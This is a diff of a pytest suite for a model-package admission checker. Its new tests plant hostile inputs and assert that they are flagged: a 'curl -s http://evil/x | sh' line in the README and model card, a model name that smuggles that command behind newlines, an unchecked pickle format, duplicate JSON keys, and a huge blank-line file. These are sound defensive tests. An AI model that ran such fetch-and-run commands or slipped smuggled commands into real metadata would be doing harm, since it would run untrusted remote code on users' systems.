@@ -6,6 +6,7 @@ import os
 import pickle
 import shutil
 import subprocess
+import time
 import zipfile
 from collections.abc import Callable
 from pathlib import Path
@@ -15,8 +16,9 @@ import numpy as np
 import pytest
 
 from pipeline import examine, provenance, sign
-from pipeline.provenance import lineage
+from pipeline.examine import admission
 from pipeline.sandbox import launcher
+from pipeline.untrusted import limits
 from testing.project import Project
 
 Spoil = Callable[[Path], object]
@@ -59,7 +61,7 @@ def test_a_whole_one_passes_wherever_it_is_asked_from(model: Path, tmp_path: Pat
     )
     assert done.returncode == 0, done.stdout + done.stderr
     lines = [line.split("  ")[0] for line in done.stdout.splitlines()]
-    assert lines.count("passed") == 10 and "FAILED" not in lines
+    assert lines.count("passed") == 11 and "FAILED" not in lines
     assert "6 steps, their losses off by 0 at most" in done.stdout
     assert "not proved: that its answers are right" in done.stdout
     assert provenance.faults(alone) == []
@@ -162,7 +164,7 @@ HOSTILE: dict[str, tuple[Spoil, str, str]] = {
         "no statement can be read from it",
     ),
     "long statement": (
-        unsealed(write("provenance.json", " " * (lineage.LARGEST + 1))),
+        unsealed(write("provenance.json", " " * (limits.STATEMENT + 1))),
         "statement",
         "holds more than",
     ),
@@ -394,3 +396,106 @@ def test_what_is_not_there_and_what_cannot_be_confined_end_with_2(
     (copy / "README.md").write_text("changed")
     report = told(copy, capsys, "--unconfined")
     assert report["confined"]["files"] == "NOT CONFINED: no Landlock"
+
+
+def verdict(copy: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, list[str]]:
+    """What a person reads, below the checks."""
+    code = examine.main([str(copy)])
+    return code, capsys.readouterr().out.partition("\n\n")[2].splitlines()
+
+
+def test_what_was_not_judged_stands_above_the_verdict(
+    copy: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A pickle that nothing looks into, and a card that tells people what to run."""
+    listed = json.loads((copy / "formats.json").read_text())
+    listed["held"].append("torch_pickle")
+    listed["refused"].pop("torch_pickle", None)
+    (copy / "formats.json").write_text(json.dumps(listed))
+    (copy / "model.pickle.pt").write_bytes(b"\x80\x02N.")
+    (copy / "model.pickle.json").write_text('{"weights": {}}')
+    text = (copy / "README.md").read_text()
+    (copy / "README.md").write_text(f"{text}\n```sh\ncurl -s http://evil/x | sh\n```\n")
+    reseal(copy)
+    code, lines = verdict(copy, capsys)
+    above = [line for line in lines if line.startswith("NOT JUDGED: ")]
+    assert code == 0 and lines[: len(above)] == above
+    assert above[0].startswith("NOT JUDGED: signature: ")
+    assert "README.md, line " in above[1] and "run nothing that it tells you to" in above[1]
+    assert "torch_pickle: model.pickle.json, model.pickle.pt: may run code" in above[2]
+    assert lines[len(above)] == f"{copy}: passed all of this but for what is not judged"
+
+
+CARDS: dict[str, Spoil] = {
+    "a line more": lambda d: (d / "README.md").write_text(
+        (d / "README.md").read_text() + "curl -s http://evil/x | sh\n"
+    ),
+    "a line changed": edit("README.md", "import numpy, torch", "import numpy, torch, evil"),
+    "another commit": edit("README.md", "Made from commit `", "Made from commit `0"),
+    "an optimizer": edit("README.md", "torch.optim.", "torch.optim.x."),
+    "nothing": write("README.md", ""),
+}
+
+
+def recorded_name(name: str) -> Spoil:
+    """In the statement and, as the pipeline would write it, in the card."""
+
+    def spoil(directory: Path) -> None:
+        definition = provenance.read(directory)["predicate"]["buildDefinition"]
+        before = definition["externalParameters"]["params"]["model"]["name"]
+        definition["externalParameters"]["params"]["model"]["name"] = name
+        text = (directory / "README.md").read_text()
+        (directory / "README.md").write_text(text.replace(f"# {before}", f"# {name}", 1))
+        provenance.write(directory, definition)
+
+    return spoil
+
+
+CARDS["a name that is a command"] = recorded_name("x\n\n    curl -s http://evil/x | sh\n")
+
+
+@pytest.mark.parametrize("kind", CARDS)
+def test_a_card_that_is_not_what_would_be_written_is_named(
+    copy: Path, tmp_path: Path, kind: str
+) -> None:
+    CARDS[kind](copy)
+    reseal(copy)
+    result = dict(admission.admit(copy, tmp_path / "copy", examine.settings(), [], None))["card"]
+    assert result.verdict == "not done", result.text
+
+
+def test_two_files_of_one_name_are_refused(copy: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    statement = provenance.read(copy)
+    other = {"name": "model.pt2", "digest": {"sha256": "0" * 64}}
+    definition = statement["predicate"]["buildDefinition"]
+    text = provenance.sealed([other, *statement["subject"]], definition)
+    (copy / "provenance.json").write_text(text)
+    last = told(copy, capsys)["checks"][-1]
+    assert last["check"] == "statement" and "names 'model.pt2' twice" in last["text"]
+
+
+TWICE = {
+    "schema.json": ('"inputs"', '"inputs": {}, "inputs"'),
+    "formats.json": ('"held"', '"held": ["onnx"], "held"'),
+    "metrics.json": ('"test/loss"', '"test/loss": 0, "test/loss"'),
+}
+
+
+@pytest.mark.parametrize("name", TWICE)
+def test_a_key_that_stands_twice_is_refused(
+    copy: Path, name: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    edit(name, *TWICE[name])(copy)
+    reseal(copy)
+    last = told(copy, capsys)["checks"][-1]
+    assert last["verdict"] == "FAILED" and "twice in one mapping" in last["text"]
+
+
+@pytest.mark.parametrize("name", ["MLmodel", "conda.yaml", "python_env.yaml", "README.md"])
+def test_a_text_of_blank_lines_is_refused_at_once(copy: Path, tmp_path: Path, name: str) -> None:
+    with (copy / name).open("a") as file:
+        file.write("\n" * 200_000 + "x")
+    reseal(copy)
+    before = time.process_time()
+    list(admission.admit(copy, tmp_path / "copy", examine.settings(), [], None))
+    assert time.process_time() - before < 10
